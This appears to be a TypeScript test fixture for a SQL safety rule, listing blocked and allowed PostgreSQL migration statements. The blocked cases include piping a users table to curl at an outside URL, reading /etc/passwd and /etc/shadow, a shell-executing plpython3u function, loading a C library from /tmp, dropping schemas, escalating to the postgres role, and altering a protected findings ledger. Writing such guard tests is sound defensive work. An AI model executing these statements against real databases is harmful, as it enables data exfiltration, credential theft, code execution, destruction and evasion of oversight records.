import type { RuleCases } from '../types.js';

export default {
  bad: [
    { name: 'GRANT', sql: `GRANT SELECT ON issues TO reporting;` },
    { name: 'REVOKE', sql: `REVOKE ALL ON issues FROM PUBLIC;` },
    { name: 'CREATE ROLE', sql: `CREATE ROLE analytics LOGIN PASSWORD 'secret';` },
    { name: 'SET ROLE', sql: `SET ROLE postgres;\nUPDATE issues SET title = title;` },
    { name: 'SET SESSION AUTHORIZATION', sql: `SET SESSION AUTHORIZATION postgres;` },
    { name: 'COPY from a server file', sql: `COPY issues FROM '/etc/passwd';` },
    { name: 'COPY to a program', sql: `COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- https://example.com';` },
    { name: 'pg_read_file', sql: `SELECT pg_read_file('/etc/passwd');` },
    { name: 'lo_export in a default', sql: `CREATE TABLE leak (id int, x oid DEFAULT lo_import('/etc/shadow'));` },
    { name: 'ALTER SYSTEM', sql: `ALTER SYSTEM SET work_mem = '1GB';` },
    { name: 'LOAD', sql: `LOAD 'auto_explain';` },
    { name: 'untrusted language function', sql: `CREATE FUNCTION shell(cmd text) RETURNS text AS $$\nimport subprocess\nreturn subprocess.check_output(cmd, shell=True)\n$$ LANGUAGE plpython3u;` },
    { name: 'C function', sql: `CREATE FUNCTION evil() RETURNS void AS '/tmp/evil.so', 'evil' LANGUAGE c;` },
    { name: 'CREATE DATABASE', sql: `CREATE DATABASE taskpilot_copy;` },
    { name: 'DROP SCHEMA', sql: `DROP SCHEMA taskpilot CASCADE;` },
    { name: 'DROP OWNED', sql: `DROP OWNED BY current_user;` },
    { name: 'REASSIGN OWNED', sql: `REASSIGN OWNED BY current_user TO postgres;` },
    { name: 'extension outside the allow-list', sql: `CREATE EXTENSION IF NOT EXISTS dblink;` },
    { name: 'postgres_fdw server', sql: `CREATE SERVER prod FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'prod-db', dbname 'taskpilot');` },
    { name: 'dblink call', sql: `SELECT dblink_exec('host=prod-db', 'DELETE FROM issues');` },
    { name: 'the schemacrew ledger', sql: `UPDATE schemacrew.findings SET status = 'fixed';` },
    { name: 'the schemacrew ledger by regclass', sql: `SELECT count(*) FROM pg_class WHERE oid = 'schemacrew.findings'::regclass;` },
    { name: 'the ledger on the search_path', sql: `SET search_path TO schemacrew, public;\nDELETE FROM findings;` },
    { name: 'ALTER TABLE OWNER TO', sql: `ALTER TABLE issues OWNER TO postgres;` },
    {
      name: 'dynamic SQL in a DO block',
      sql: `DO $$\nBEGIN\n  EXECUTE 'DROP SCHEMA taskpilot CASCADE';\nEND\n$$;`,
    },
    {
      name: 'dynamic SQL through format() in a function',
      sql: `CREATE OR REPLACE FUNCTION grant_all(r text) RETURNS void AS $$\nBEGIN\n  EXECUTE format('GRANT ALL ON ALL TABLES IN SCHEMA taskpilot TO %I', r);\nEND;\n$$ LANGUAGE plpgsql;`,
    },
    {
      name: 'PERFORM of a file function in a DO block',
      sql: `DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$;`,
    },
  ],
  good: [
    { name: 'allowed extension', sql: `CREATE EXTENSION IF NOT EXISTS pg_trgm;` },
    { name: 'plain DDL', sql: `CREATE TABLE time_entries (id UUID PRIMARY KEY DEFAULT uuid_generate_v4(), minutes INTEGER NOT NULL);` },
    {
      name: 'partition management function with dynamic SQL inside the schema (seed Day 55)',
      sql: `CREATE OR REPLACE FUNCTION create_monthly_partitions(
    table_name TEXT,
    months_ahead INTEGER DEFAULT 3
)
RETURNS void AS $$
DECLARE
    partition_date DATE;
    partition_name TEXT;
    start_date DATE;
    end_date DATE;
BEGIN
    FOR i IN 0..months_ahead LOOP
        partition_date := date_trunc('month', CURRENT_DATE + (i || ' months')::interval);
        start_date := partition_date;
        end_date := partition_date + interval '1 month';
        partition_name := table_name || '_y' || to_char(partition_date, 'YYYY') || 'm' || to_char(partition_date, 'MM');

        EXECUTE format(
            'CREATE TABLE IF NOT EXISTS %I PARTITION OF %I FOR VALUES FROM (%L) TO (%L)',
            partition_name, table_name, start_date, end_date
        );
    END LOOP;
END;
$$ LANGUAGE plpgsql;`,
    },
    { name: 'SET LOCAL of a harmless setting', sql: `SET LOCAL statement_timeout = '5min';` },
    { name: 'COPY from the client', sql: `COPY issues (title) TO STDOUT;` },
  ],
} satisfies RuleCases;
